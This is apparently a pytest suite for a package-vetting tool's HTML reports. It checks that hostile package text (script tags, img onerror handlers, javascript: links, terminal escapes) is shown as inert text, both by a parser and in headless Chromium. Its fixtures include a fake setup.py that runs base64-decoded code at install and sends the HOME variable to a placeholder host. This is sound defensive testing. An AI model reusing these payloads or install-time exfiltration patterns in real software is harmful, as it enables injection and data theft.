"""``--format html`` of scan, audit and diff: one self-contained page whose every piece of package
text stays text. The pages are made by the real commands from real artifacts (a hostile package
built here, whose file names, code, metadata and advisories carry markup, ``javascript:`` links and
terminal escapes) and read back with the standard library's HTML parser; then rendered in a real
headless Chromium, whose DOM must show the report's text and none of the injected elements."""

from __future__ import annotations

import datetime as dt
import shutil
import subprocess
from html.parser import HTMLParser
from pathlib import Path

import pytest
from tests.support.index_builder import build_sdist, core_metadata

from pipvet.cli.main import main
from pipvet.core.analysis.model import Finding
from pipvet.core.diff import BLOCK, Capability, DiffReport, MetadataChange, PackageChange
from pipvet.core.reports.scan import ScanReport, Verdict
from pipvet.formats.registries import AUDIT, DIFF, SCAN
from pipvet.sources.advisories.db import build_db

SCRIPT = "<script>document.title='PWNED'</script>"
IMG = '"><img src=x onerror="document.title=\'PWNED\'">'
JS_URL = "javascript:document.title='PWNED'"
ESC = "\x1b[2J\x1b[31m"
HOSTILE = f"{SCRIPT}{IMG}{JS_URL}{ESC}\u202e"

# the tags the report is made of: anything else (script, img, iframe, object...) came from a package
ALLOWED_TAGS = {
    "html", "head", "meta", "title", "style", "body", "main", "h1", "h2", "h3", "p", "span",
    "a", "b", "code", "pre", "table", "thead", "tbody", "tr", "th", "td", "section", "details",
    "summary", "div", "dl", "dt", "dd", "ul", "li", "footer",
}  # fmt: skip

BAD_SETUP = (
    "import base64, os, urllib.request\n"
    "from setuptools import setup\n"
    f"exec(base64.b64decode('cHJpbnQoMSk='))  # {SCRIPT}\n"
    f"urllib.request.urlopen('http://x.invalid/' + os.environ['HOME'])  # {IMG} {ESC}\n"
    "setup(name='evil-pkg', version='1.1')\n"
)
BAD_MODULE = f"import base64\nexec(base64.b64decode('cHJpbnQoMSk='))  # {JS_URL}\n"


class Page(HTMLParser):
    """Every element, attribute and piece of text of a page, as a browser's parser sees them."""

    def __init__(self, text: str) -> None:
        super().__init__(convert_charrefs=True)
        self.tags: list[tuple[str, dict[str, str | None]]] = []
        self.chunks: list[str] = []
        self.feed(text)
        self.close()

    def handle_starttag(self, tag, attrs):
        self.tags.append((tag, dict(attrs)))

    def handle_startendtag(self, tag, attrs):
        self.tags.append((tag, dict(attrs)))

    def handle_data(self, data):
        self.chunks.append(data)

    @property
    def text(self) -> str:
        return "".join(self.chunks)


def assert_inert(text: str) -> Page:
    """Nothing a package wrote became markup: only the report's own tags, no event handlers,
    links only to the page itself or to http(s), no raw terminal escapes; the markup a package
    wrote is there as visible text."""
    page = Page(text)
    names = {tag for tag, _ in page.tags}
    assert names <= ALLOWED_TAGS, names - ALLOWED_TAGS
    for tag, attrs in page.tags:
        assert not any(a.startswith("on") for a in attrs), (tag, attrs)
        if "href" in attrs:
            assert attrs["href"].startswith(("#", "https://", "http://")), attrs
        if "src" in attrs:
            raise AssertionError(f"an element loads something: {tag} {attrs}")
    assert "\x1b" not in text and "\u202e" not in text
    assert page.text.count("<script>") == page.text.count("</script>") > 0  # shown as text
    return page


@pytest.fixture(scope="module")
def artifacts(tmp_path_factory: pytest.TempPathFactory) -> dict[str, Path]:
    """evil-pkg 1.0 (harmless) and 1.1 (decode-and-exec at install, the home folder sent away,
    file names, code and metadata full of markup and terminal escapes)."""
    out = tmp_path_factory.mktemp("hostile")
    meta = core_metadata("evil-pkg", "1.1").replace(
        "\n\n", f"\nHome-page: {JS_URL}\nAuthor-email: {IMG}@example.org\n\n"
    )
    files = {
        "PKG-INFO": meta,
        "setup.py": BAD_SETUP,
        f"evil_pkg/{SCRIPT}.py": BAD_MODULE,
        f"evil_pkg/{IMG}.py": BAD_MODULE,
        f"evil_pkg/{ESC}red.py": BAD_MODULE,
        "evil_pkg/__init__.py": f"from . import helper  # {SCRIPT}\n",
        "evil_pkg/helper.py": BAD_MODULE,
    }
    paths = {}
    for key, version, extra in (("old", "1.0", {}), ("new", "1.1", files)):
        name, data = build_sdist("evil-pkg", version, files=extra)
        paths[key] = out / name
        paths[key].write_bytes(data)
    return paths


@pytest.fixture
def hostile_db(tmp_path: Path) -> Path:
    record = {
        "id": "PYSEC-2099-1",
        "modified": "2024-05-01T00:00:00Z",
        "aliases": [f"CVE-2099-{IMG}"],
        "summary": f"summary {SCRIPT} {IMG}",
        "details": f"details {SCRIPT}\n{ESC} see {JS_URL}",
        "references": [{"type": "ADVISORY", "url": JS_URL}],
        "affected": [
            {
                "package": {"name": "alpha", "ecosystem": "PyPI"},
                "ranges": [
                    {"type": "ECOSYSTEM", "events": [{"introduced": "0"}, {"fixed": "2.0"}]}
                ],
            }
        ],
        "severity": [{"type": "CVSS_V3", "score": "CVSS:3.1/AV:N/AC:L/PR:N/UI:N/S:U/C:H/I:H/A:H"}],
    }
    path = tmp_path / "adv.sqlite"
    build_db(path, [record], {"source": "test records", "date": dt.date.today().isoformat()})
    return path


def _scan_html(artifacts: dict[str, Path], out: Path) -> int:
    return main(
        ["scan", str(artifacts["new"]), "--all-findings", "--format", "html", "-o", str(out)]
    )


def test_every_command_offers_html() -> None:
    assert "html" in SCAN and "html" in AUDIT and "html" in DIFF


def test_scan_page_of_a_hostile_package(artifacts, tmp_path: Path, capsys) -> None:
    out = tmp_path / "scan.html"
    assert _scan_html(artifacts, out) == 1  # malicious: the exit code is the scan's
    assert f"wrote {out}" in capsys.readouterr().err
    text = out.read_text(encoding="utf-8")
    assert text.startswith("<!DOCTYPE html>")
    page = assert_inert(text)
    seen = page.text
    # verdicts first, then the findings with their place and excerpt
    assert seen.index("Verdicts") < seen.index("intent.decode-execute")
    assert "MALICIOUS" in seen.upper() and "evil-pkg 1.1" in seen
    assert "exec(base64.b64decode('cHJpbnQoMSk='))" in seen
    assert f"evil_pkg/{SCRIPT}.py" in seen  # the hostile file name, as text
    assert "\\x1b[2J" in seen  # a terminal escape, shown
    # self-contained: no element fetches anything, scripts are forbidden by the page itself
    assert "default-src 'none'" in text and "<link" not in text


def test_audit_page_with_hostile_advisory_text(tmp_path: Path, hostile_db: Path, capsys) -> None:
    req = tmp_path / "r.txt"
    req.write_text("alpha==1.0\n")
    assert main(["audit", "-r", str(req), "--db", str(hostile_db), "--format", "html"]) == 1
    text = capsys.readouterr().out
    page = assert_inert(text)
    assert "1 vulnerability (1 critical) in 1 package" in page.text
    assert "PYSEC-2099-1" in page.text and "alpha" in page.text
    hrefs = [attrs["href"] for tag, attrs in page.tags if tag == "a"]
    assert "https://osv.dev/vulnerability/PYSEC-2099-1" in hrefs
    assert not any("javascript" in h.lower() for h in hrefs)
    assert JS_URL in page.text  # the advisory's URL is shown, not linked


def test_diff_page_of_an_update_turning_hostile(artifacts, tmp_path: Path, capsys) -> None:
    out = tmp_path / "diff.html"
    code = main(["diff", str(artifacts["old"]), str(artifacts["new"]), "--format", "html", "-o",
                 str(out)])  # fmt: skip
    assert code == 1
    page = assert_inert(out.read_text(encoding="utf-8"))
    assert "1 package blocked by policy" in page.text
    assert "gains decode-and-execute of hidden code" in page.text
    assert JS_URL in page.text  # the new home page, as text


def test_scan_to_stdout_and_an_unwritable_output(artifacts, tmp_path: Path, capsys) -> None:
    assert main(["scan", str(artifacts["old"]), "--format", "html"]) == 0
    out = capsys.readouterr().out
    assert out.startswith("<!DOCTYPE html>") and out.endswith("</html>\n")
    assert "No artifact looks malicious or risky." in Page(out).text
    bad = tmp_path / "missing" / "scan.html"
    assert main(["scan", str(artifacts["old"]), "--format", "html", "-o", str(bad)]) == 2
    assert f"cannot write {bad}" in capsys.readouterr().err and not bad.exists()


def test_every_field_of_a_report_is_escaped() -> None:
    """Report models filled with hostile text in every string field: nothing becomes markup."""
    f = Finding("intent.decode-execute", "intent", "critical", HOSTILE, 3, HOSTILE, HOSTILE)
    scan = ScanReport(HOSTILE, HOSTILE, HOSTILE, HOSTILE, HOSTILE, Verdict.MALICIOUS, 99, (f,),
                      source=HOSTILE, note=HOSTILE)  # fmt: skip
    assert_inert(SCAN.render("html", [scan], all_findings=True))
    cap = Capability("capability.network", "network", "high", HOSTILE, HOSTILE, 2, HOSTILE, HOSTILE)
    change = PackageChange(
        HOSTILE, "upgraded", HOSTILE, HOSTILE, action=BLOCK, reasons=(HOSTILE,), verdict=HOSTILE,
        gained=(cap,), lost=(cap,), install_time=(HOSTILE,), known_malware=(HOSTILE,),
        deps_added=(HOSTILE,), metadata=(MetadataChange("project URLs", (JS_URL,), (HOSTILE,)),),
        artifacts=(HOSTILE,), problems=(HOSTILE,),
    )  # fmt: skip
    report = DiffReport(HOSTILE, HOSTILE, (change,), notes=(HOSTILE,), problems=(HOSTILE,))
    assert_inert(DIFF.render("html", report))


# -- in a real browser ---------------------------------------------------------------------------

CHROMIUM = shutil.which("chromium") or shutil.which("chromium-browser")
needs_chromium = pytest.mark.skipif(
    CHROMIUM is None, reason="chromium is not installed (apt-get install chromium; .ci/run does)"
)


def chromium(tmp_path: Path, page: Path, *extra: str) -> str:
    """The DOM of ``page`` after a real headless Chromium loaded it (and ran what it would)."""
    assert page.is_file(), page  # else the DOM would be Chromium's own error page
    cmd = [
        str(CHROMIUM), "--headless", "--no-sandbox", "--disable-gpu", "--disable-quic",
        "--no-first-run", "--disable-background-networking", "--disable-component-update",
        "--disable-sync", f"--user-data-dir={tmp_path / 'chromium-profile'}", *extra,
        page.resolve().as_uri(),
    ]  # fmt: skip
    done = subprocess.run(cmd, capture_output=True, text=True, timeout=180, check=False)
    assert done.returncode == 0, done.stderr[-2000:]
    return done.stdout


@needs_chromium
def test_chromium_shows_the_scan_report_and_runs_nothing(artifacts, tmp_path: Path) -> None:
    out = tmp_path / "scan.html"
    assert _scan_html(artifacts, out) == 1
    dom = chromium(tmp_path, out, "--dump-dom")
    page = assert_inert(dom)  # the browser's own DOM: no script or img element came to be
    assert "<title>pipvet scan report</title>" in dom  # no injected script rewrote it
    assert "PWNED" not in "".join(str(a) for _, a in page.tags)
    seen = " ".join(page.text.split())
    for wanted in (
        "pipvet scan report",
        "malicious",
        "evil-pkg 1.1",
        "intent.decode-execute",
        "exec(base64.b64decode('cHJpbnQoMSk='))",
        f"evil_pkg/{SCRIPT}.py",
    ):
        assert wanted in seen, wanted
    shot = tmp_path / "shot.png"
    chromium(tmp_path, out, f"--screenshot={shot}", "--window-size=1200,900")
    assert shot.read_bytes()[:8] == b"\x89PNG\r\n\x1a\n" and shot.stat().st_size > 10_000


@needs_chromium
def test_chromium_shows_audit_and_diff_reports(
    artifacts, tmp_path: Path, hostile_db: Path, capsys
) -> None:
    req = tmp_path / "r.txt"
    req.write_text("alpha==1.0\n")
    audit, diff = tmp_path / "audit.html", tmp_path / "diff.html"
    assert main(["audit", "-r", str(req), "--db", str(hostile_db), "--format", "html",
                 "-o", str(audit)]) == 1  # fmt: skip
    assert main(["diff", str(artifacts["old"]), str(artifacts["new"]), "--format", "html",
                 "-o", str(diff)]) == 1  # fmt: skip
    for path, wanted in (
        (audit, ("pipvet audit report", "1 vulnerability (1 critical)", "PYSEC-2099-1", "alpha")),
        (diff, ("pipvet diff report", "1 package blocked by policy", "evil-pkg",
                "gains decode-and-execute of hidden code")),
    ):  # fmt: skip
        page = assert_inert(chromium(tmp_path, path, "--dump-dom"))
        seen = " ".join(page.text.split())
        for w in wanted:
            assert w in seen, (path.name, w)
